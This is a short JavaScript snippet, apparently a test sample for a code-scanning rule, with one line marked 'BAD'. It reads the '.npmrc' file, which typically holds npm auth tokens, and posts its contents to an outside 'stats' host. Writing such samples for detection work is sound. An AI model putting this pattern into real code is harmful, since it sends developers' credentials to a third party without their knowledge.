const fs = require('fs');
const https = require('https');

async function report() {
  const text = await fs.promises.readFile('.npmrc', 'utf8');
  const request = https.request({ host: 'stats.acme-shop.com', method: 'POST' });
  request.write(text); // BAD
  request.end();
}
report();
